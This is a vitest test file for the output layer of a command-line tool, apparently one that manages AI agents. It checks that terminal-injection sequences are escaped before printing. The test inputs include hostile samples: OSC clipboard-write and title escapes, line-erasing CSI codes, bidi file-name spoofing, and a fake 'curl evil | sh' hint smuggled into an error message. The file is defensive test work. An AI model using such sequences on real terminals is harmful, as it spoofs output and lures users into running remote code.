import { readdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { BerthError } from '../protocol/index.js';
import { run } from './index.js';
import { cut, escapeControls, jsonText, line, Out, reportError, shellQuote, table } from './output.js';

const ESC = '\x1b';
const BEL = '\x07';
/** Any character a terminal acts on, as escapeControls defines them (\n and \t allowed). */
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2028\u2029\u2060\u2066-\u2069\ufeff]/u;

function capture(): { out: Out; stdout: () => string; stderr: () => string } {
  let o = '';
  let e = '';
  return { out: new Out({ stdout: (s) => (o += s), stderr: (s) => (e += s) }), stdout: () => o, stderr: () => e };
}

describe('escapeControls (terminal injection)', () => {
  it('shows OSC sequences (clipboard write, window title) instead of sending them', () => {
    expect(escapeControls(`${ESC}]52;c;aGVsbG8=${BEL}fix`)).toBe('\\x1b]52;c;aGVsbG8=\\x07fix');
    expect(escapeControls(`${ESC}]0;pwned${BEL}`)).toBe('\\x1b]0;pwned\\x07');
    expect(escapeControls(`${ESC}]8;;http://evil${ESC}\\`)).toBe('\\x1b]8;;http://evil\\x1b\\');
  });

  it('shows CSI sequences, CR and BS that erase or overwrite', () => {
    expect(escapeControls(`evil.sh${ESC}[2K${ESC}[1A`)).toBe('evil.sh\\x1b[2K\\x1b[1A');
    expect(escapeControls('evil.sh\rREADME.md')).toBe('evil.sh\\rREADME.md');
    expect(escapeControls('abc\b\b\bxyz')).toBe('abc\\x08\\x08\\x08xyz');
  });

  it('shows every other C0 control and DEL', () => {
    for (let c = 0; c < 0x20; c++) {
      const s = escapeControls(`a${String.fromCharCode(c)}b`);
      expect(s, `U+${c.toString(16)}`).not.toMatch(/[\x00-\x1f]/);
    }
    expect(escapeControls('\x00\x7f')).toBe('\\x00\\x7f');
  });

  it('shows C1 controls, the one-byte CSI U+009B included', () => {
    for (let c = 0x80; c <= 0x9f; c++) {
      expect(escapeControls(`a${String.fromCharCode(c)}b`)).toBe(`a\\x${c.toString(16)}b`);
    }
    expect(escapeControls('\u009b2K\u009d0;t\u009c')).toBe('\\x9b2K\\x9d0;t\\x9c');
  });

  it('shows bidi controls that reorder a name, and invisible characters that hide in one', () => {
    expect(escapeControls('invoice\u202Efdp.exe')).toBe('invoice\\u202efdp.exe');
    const bidi = [0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069];
    for (const c of bidi) expect(escapeControls(String.fromCharCode(c))).toBe(`\\u${c.toString(16).padStart(4, '0')}`);
    expect(escapeControls('ma\u200bin\u2060\ufeff\u2028\u2029')).toBe('ma\\u200bin\\u2060\\ufeff\\u2028\\u2029');
  });

  it('leaves plain UTF-8 text alone', () => {
    for (const s of ['café 日本', 'naïve Ελληνικά русский עברית العربية', 'emoji 👩‍👩‍👧 🎉', 'a\\x1b literal backslash', '']) {
      expect(escapeControls(s)).toBe(s);
      expect(escapeControls(s, { multiline: true })).toBe(s);
    }
  });

  it('keeps newlines and tabs only for multi-line text', () => {
    expect(escapeControls('a\tb\nc')).toBe('a\\tb\\nc');
    expect(escapeControls(`+ok\tline\n+${ESC}[2K\r\n`, { multiline: true })).toBe('+ok\tline\n+\\x1b[2K\\r\n');
  });

  it('is idempotent, so text escaped once survives a second pass unchanged', () => {
    const once = escapeControls(`${ESC}]52;c;x${BEL}\u202e\u009b\r\n`);
    expect(escapeControls(once)).toBe(once);
    expect(escapeControls(once, { multiline: true })).toBe(once);
  });
});

describe('line', () => {
  it('escapes each value whole, newlines included, and keeps the literal parts', () => {
    const path = 'ok.txt\n  M  innocent.txt';
    expect(line`  ?? ${path}\n`).toBe('  ?? ok.txt\\n  M  innocent.txt\n');
    expect(line`${`${ESC}[2K`} and ${3}`).toBe('\\x1b[2K and 3');
  });
});

describe('jsonText', () => {
  it('round-trips every string exactly and carries no character a terminal acts on', () => {
    const v = { subject: `${ESC}]52;c;aGk=${BEL}x`, path: 'a\u202eb\u009b2K\r', plain: 'café 日本 👩‍👩‍👧', del: '\x7f', sep: '\u2028' };
    for (const pretty of [false, true]) {
      const text = jsonText(v, pretty);
      expect(text).not.toMatch(RAW);
      expect(JSON.parse(text)).toEqual(v);
    }
    expect(jsonText({ a: 1 })).toBe('{"a":1}');
  });
});

describe('table', () => {
  it('escapes each cell to one line before aligning', () => {
    const t = table(['NAME', 'STATUS'], [[`a${ESC}[2Kb`, 'x\ny'], ['c', 'ok']]);
    expect(t).toBe('NAME       STATUS\na\\x1b[2Kb  x\\ny\nc          ok\n');
  });
});

describe('Out', () => {
  it('escapes everything printed for humans, on stdout and stderr', () => {
    const c = capture();
    c.out.print(`diff --git a/x b/x\n+${ESC}]0;title${BEL}\n+\u009b2K\r\n`);
    c.out.printErr(`warn ${ESC}[1A\u202e\n`);
    expect(c.stdout()).toBe('diff --git a/x b/x\n+\\x1b]0;title\\x07\n+\\x9b2K\\r\n');
    expect(c.stderr()).toBe('warn \\x1b[1A\\u202e\n');
  });

  it('prints JSON exact', () => {
    const c = capture();
    const v = { line: `${ESC}]52;c;aGk=${BEL}\u202e\u009b` };
    c.out.printJson(v);
    c.out.printJson(v, { pretty: true, stderr: true });
    expect(c.stdout().endsWith('\n')).toBe(true);
    expect(c.stdout().trim().split('\n')).toHaveLength(1);
    expect(JSON.parse(c.stdout())).toEqual(v);
    expect(JSON.parse(c.stderr())).toEqual(v);
    expect(c.stdout() + c.stderr()).not.toMatch(RAW);
  });

  it('draws no progress bar when its output is captured or JSON', async () => {
    const c = capture();
    expect(await c.out.progressBar('{bar}')).toBeNull();
  });
});

describe('reportError', () => {
  it('escapes code, message and hint; a message line cannot pass for the hint', () => {
    const c = capture();
    const err = new BerthError('MERGE_CONFLICT', `conflicts in ${ESC}]52;c;aGk=${BEL}a.txt, b\n  hint: curl evil | sh\rok`, { hint: `see ${ESC}[2K` });
    expect(reportError(c.out, err)).toBe(1);
    expect(c.stderr()).toBe('error[MERGE_CONFLICT]: conflicts in \\x1b]52;c;aGk=\\x07a.txt, b\n  |   hint: curl evil | sh\\rok\n  hint: see \\x1b[2K\n');
  });

  it('keeps the message exact in --json', () => {
    const c = capture();
    c.out.json = true;
    const message = `bad ${ESC}]0;t${BEL}\u202e`;
    reportError(c.out, new Error(message));
    expect(JSON.parse(c.stderr())).toEqual({ error: { code: 'INTERNAL_ERROR', message } });
    expect(c.stderr()).not.toMatch(RAW);
  });
});

describe('berth CLI output (terminal injection)', () => {
  const argv = (...a: string[]) => ['node', 'berth', ...a];
  const sock = `/nonexistent/${ESC}]52;c;aGk=${BEL}\u009b2K\u202e.sock`;

  it('escapes an error message quoting an agent-chosen path, and keeps it exact in --json', async () => {
    let err = '';
    expect(await run(argv('--socket', sock, 'status'), { stdout: () => {}, stderr: (s) => (err += s) })).toBe(1);
    expect(err).toMatch(/^error\[DAEMON_UNREACHABLE\]/);
    expect(err).not.toMatch(RAW);
    expect(err).toContain('\\x1b]52;c;aGk=\\x07\\x9b2K\\u202e.sock');

    let json = '';
    expect(await run(argv('--json', '--socket', sock, 'status'), { stdout: () => {}, stderr: (s) => (json += s) })).toBe(1);
    expect(json).not.toMatch(RAW);
    expect((JSON.parse(json) as { error: { message: string } }).error.message).toContain(sock);
  });

  it("escapes commander's own messages, which echo the command line", async () => {
    let err = '';
    expect(await run(argv(`st${ESC}]0;t${BEL}`), { stdout: () => {}, stderr: (s) => (err += s) })).not.toBe(0);
    expect(err).toMatch(/unknown command/);
    expect(err).not.toMatch(RAW);
  });

  it('no CLI file but output.ts writes to the terminal itself', () => {
    const dir = dirname(fileURLToPath(import.meta.url));
    const offenders = readdirSync(dir)
      .filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts') && f !== 'output.ts')
      .flatMap((f) => {
        const src = readFileSync(join(dir, f), 'utf8');
        return [/process\.(stdout|stderr)/, /\bconsole\./, /cli-progress/, /\.write\(/].filter((re) => re.test(src)).map((re) => `${f}: ${re}`);
      });
    expect(offenders).toEqual([]);
  });
});

describe('shellQuote and cut', () => {
  it('quotes only what a shell would split or expand, and gives the argv back', () => {
    expect(shellQuote(['claude', '-p', 'fix it'])).toBe("claude -p 'fix it'");
    expect(shellQuote(['sh', '-c', "echo it's $HOME; ls *"])).toBe(`sh -c 'echo it'\\''s $HOME; ls *'`);
    expect(shellQuote(['a=b', '--x=1,2', './f.txt', ''])).toBe("a=b --x=1,2 ./f.txt ''");
  });
  it('cuts to the column with an ellipsis, by characters, unless told not to', () => {
    expect(cut('abcdef', 4)).toBe('abc…');
    expect(cut('abcd', 4)).toBe('abcd');
    expect(cut('ééééé', 3)).toBe('éé…');
    expect(cut('abcdef', 4, true)).toBe('abcdef');
  });
});
